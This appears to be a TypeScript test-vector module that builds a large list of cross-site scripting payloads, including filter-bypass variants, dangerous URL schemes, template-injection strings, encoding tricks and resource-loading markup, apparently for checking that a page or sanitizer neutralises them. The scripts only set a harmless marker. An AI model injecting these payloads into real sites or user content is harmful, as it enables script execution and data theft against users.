const MARK = 'window.__xss=1'

const TAGS = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'audio src=x',
  'input autofocus',
  'details open',
  'iframe',
  'object data=x',
  'marquee',
  'link rel=stylesheet href=x',
  'select autofocus',
  'textarea autofocus',
  'div style="animation:x" tabindex=1',
]
const EVENTS = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onstart', 'onmouseover', 'onanimationstart']

const handlers = TAGS.flatMap((tag) => EVENTS.map((event) => `<${tag} ${event}="${MARK}">`))

const SCRIPTS = [
  `<script>${MARK}</script>`,
  `<ScRiPt>${MARK}</sCrIpT>`,
  `<script/x>${MARK}</script>`,
  `<<script>${MARK};//<</script>`,
  `</span><script>${MARK}</script>`,
  `</ul></section><script>${MARK}</script>`,
  `"><script>${MARK}</script>`,
  `'><script>${MARK}</script>`,
  `--><script>${MARK}</script>`,
  `]]><script>${MARK}</script>`,
  `</textarea><script>${MARK}</script>`,
  `</title><script>${MARK}</script>`,
  `<script type=module>${MARK}</script>`,
  `<svg><script>${MARK}</script></svg>`,
  `<svg><script href="data:,${MARK}"/></svg>`,
  `<template><script>${MARK}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${MARK}>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${MARK}>`,
  `<svg><style><!--</style><img src=x onerror=${MARK}>`,
  `<svg><animate onbegin=${MARK} attributeName=x dur=1s>`,
  `<svg><a><animate attributeName=href values="javascript:${MARK}"/><text y=9>x</text></a></svg>`,
  `<img src="x\`\`onerror=${MARK}">`,
  `<img/src/onerror=${MARK}>`,
  `<img src=x oneonerrorrror=${MARK}>`,
  `<img src=x onerror\u00a0=${MARK}>`,
  `<img src=x onerror=&#119;indow.__xss=1>`,
]

const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  '\u0001javascript:',
  'javascript&colon;',
  'jav&#x09;ascript:',
  'vbscript:',
  'data:text/html,',
  'data:text/html;base64,',
  'view-source:javascript:',
]
const links = SCHEMES.flatMap((scheme) => [
  `${scheme}${MARK}`,
  `<a href="${scheme}${MARK}" autofocus onfocus=${MARK}>x</a>`,
  `<iframe src="${scheme}${MARK}"></iframe>`,
  `[x](${scheme}${MARK})`,
])

const TEMPLATES = [
  `{{constructor.constructor('${MARK}')()}}`,
  `\${${MARK}}`,
  `<%= ${MARK} %>`,
  `#{${MARK}}`,
  `{{{${MARK}}}}`,
  `{%raw%}<script>${MARK}</script>`,
  `$\{alert(1)}\`-${MARK}-\``,
  `';${MARK};//`,
  `";${MARK};//`,
  `\\";${MARK};//`,
  `\`;${MARK};//`,
]

const ENCODED = [
  `&lt;script&gt;${MARK}&lt;/script&gt;`,
  `&#60;script&#62;${MARK}&#60;/script&#62;`,
  `%3Cscript%3E${MARK}%3C/script%3E`,
  `\\u003cscript\\u003e${MARK}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${MARK}\\x3c/script\\x3e`,
  `＜script＞${MARK}＜/script＞`,
  `+ADw-script+AD4-${MARK}+ADw-/script+AD4-`,
  `¼script¾${MARK}¼/script¾`,
  `<scr\u200bipt>${MARK}</script>`,
  `\u202e<script>${MARK}</script>`,
  `\u2067<img src=x onerror=${MARK}>\u2069 abc`,
  `\ufeff<script>${MARK}</script>`,
  `e\u0301\u0301<img src=x onerror=${MARK}>`,
  `<img src=x onerror=${MARK} //\u2028`,
  `مرحبا <img src=x onerror=${MARK}>`,
]

/** Markup that loads from `url` when a page inserts it. */
const loads = (url: string): readonly string[] => [
  `<img src="${url}/img">`,
  `<img srcset="${url}/srcset 1x">`,
  `<video poster="${url}/poster">`,
  `<audio src="${url}/audio" autoplay>`,
  `<link rel=stylesheet href="${url}/css">`,
  `<link rel=prefetch href="${url}/prefetch">`,
  `<style>@import '${url}/import';</style>`,
  `<div style="background:url(${url}/background)">`,
  `<iframe src="${url}/iframe"></iframe>`,
  `<object data="${url}/object"></object>`,
  `<embed src="${url}/embed">`,
  `<base href="${url}/">`,
  `<meta http-equiv=refresh content="0;url=${url}/refresh">`,
  `<form action="${url}/form"><button autofocus>x</button></form>`,
  `<svg><image href="${url}/svg"/><use href="${url}/use#x"/></svg>`,
  `<script src="${url}/script"></script>`,
  `<input type=image src="${url}/input">`,
  `![x](${url}/markdown)`,
  url,
]

/** Texts that run a script or load something from `url` in a page that shows them as markup. */
export const xssVectors = (url: string): readonly string[] => [
  ...handlers,
  ...SCRIPTS,
  ...links,
  ...TEMPLATES,
  ...ENCODED,
  ...loads(url),
]
